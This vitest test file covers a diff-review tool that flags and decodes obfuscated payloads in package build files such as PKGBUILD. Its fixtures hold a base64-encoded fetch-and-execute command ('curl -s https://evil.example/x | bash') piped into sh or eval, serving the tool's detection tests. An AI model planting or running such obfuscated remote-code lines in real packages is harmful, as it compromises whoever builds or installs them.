import * as Diff2Html from 'diff2html';
import { describe, expect, it } from 'vitest';
import { annotateReview, lineKey, linesOutsideDiff, MAX_PAYLOAD_NOTES, newSideRows } from './annotate.js';
import type { ReviewFile } from './diff.js';
import type { RiskFlag } from './risk/index.js';

const PAYLOAD = 'Y3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgYmFzaA==';

function file(path: string, rows: string[], start = 1): ReviewFile {
  const added = rows.filter((row) => !row.startsWith('-')).length;
  const removed = rows.filter((row) => !row.startsWith('+')).length;
  const patch = [
    `diff --git a/${path} b/${path}`,
    `--- a/${path}`,
    `+++ b/${path}`,
    `@@ -${start},${removed} +${start},${added} @@`,
    ...rows,
    '',
  ].join('\n');
  const [diff] = Diff2Html.parse(patch);
  if (!diff) throw new Error('no diff');
  return { path, oldPath: null, diff };
}

const pkgbuild = file('PKGBUILD', [' pkgname=x', '-pkgver=1', '+pkgver=2', `+  echo ${PAYLOAD} | base64 -d | sh`, ' pkgrel=1'], 10);
const flag = (over: Partial<RiskFlag>): RiskFlag => ({ check: 'obfuscation', severity: 'high', reason: 'decodes base64', ...over });

describe('annotateReview', () => {
  it('anchors a flag at its row of the new side and decodes the payload on it', () => {
    const { flags, notes } = annotateReview([pkgbuild], [flag({ file: 'PKGBUILD', line: 12 })]);
    expect(flags[0]).toMatchObject({ id: 'flag-1', inDiff: true, text: `  echo ${PAYLOAD} | base64 -d | sh` });
    expect(flags[0]?.payloads[0]).toMatchObject({ encoding: 'base64', preview: 'curl -s https://evil.example/x | bash' });
    expect(notes).toEqual([expect.objectContaining({ file: 'PKGBUILD', line: 12, flagIds: ['flag-1'] })]);
    expect(notes[0]?.payloads).toHaveLength(1);
  });

  it('reads the new-side line numbers from the hunk header, context included', () => {
    const rows = newSideRows([pkgbuild]).get('PKGBUILD');
    expect([...(rows?.keys() ?? [])]).toEqual([10, 11, 12, 13]);
    expect(rows?.get(11)).toEqual({ text: 'pkgver=2', added: true });
    expect(rows?.get(13)).toEqual({ text: 'pkgrel=1', added: false });
  });

  it('leaves package-level flags unanchored and uses the text read from git for lines outside the diff', () => {
    const outsideFlag = flag({ file: 'PKGBUILD', line: 40 });
    const hidden = flag({ file: 'PKGBUILD', line: 3, commit: 'c'.repeat(40) });
    const wanted = linesOutsideDiff([flag({}), outsideFlag, hidden, flag({ file: 'PKGBUILD', line: 12 })], newSideRows([pkgbuild]));
    expect(wanted).toEqual([
      { commit: null, file: 'PKGBUILD', line: 40 },
      { commit: 'c'.repeat(40), file: 'PKGBUILD', line: 3 },
    ]);
    const outside = new Map([[lineKey('c'.repeat(40), 'PKGBUILD', 3), `eval "$(echo ${PAYLOAD} | base64 -d)"`]]);
    const { flags, notes } = annotateReview([pkgbuild], [flag({ check: 'maintainer-change' }), outsideFlag, hidden], outside);
    expect(flags.map((view) => [view.id, view.inDiff, view.text !== null])).toEqual([
      ['flag-1', false, false],
      ['flag-2', false, false],
      ['flag-3', false, true],
    ]);
    expect(flags[2]?.payloads[0]?.preview).toBe('curl -s https://evil.example/x | bash');
    // Only rows of the diff get notes; the payload row has no flag of its own here.
    expect(notes.map((note) => [note.line, note.flagIds])).toEqual([[12, []]]);
  });

  it('bounds what a hostile diff can make it annotate, and what it shows of a line', () => {
    const many = file(
      'big.sh',
      Array.from({ length: MAX_PAYLOAD_NOTES + 50 }, () => `+echo ${PAYLOAD}`),
    );
    expect(annotateReview([many], []).notes).toHaveLength(MAX_PAYLOAD_NOTES);
    const long = file('long.sh', [`+${'x'.repeat(5000)} ${PAYLOAD}`]);
    const [view] = annotateReview([long], [flag({ file: 'long.sh', line: 1 })]).flags;
    expect(view?.text?.length).toBeLessThanOrEqual(501);
    expect(view?.payloads).toHaveLength(1);
  });

  it('ignores checksums (hex that decodes to binary) and a deleted file', () => {
    const sums = file('PKGBUILD', [`+sha256sums=('${'ab12'.repeat(16)}')`]);
    expect(annotateReview([sums], []).notes).toEqual([]);
    const gone = { ...file('old.sh', [`-echo ${PAYLOAD}`]), diff: { ...file('old.sh', [`-echo ${PAYLOAD}`]).diff, isDeleted: true } };
    expect(newSideRows([gone]).size).toBe(0);
  });
});
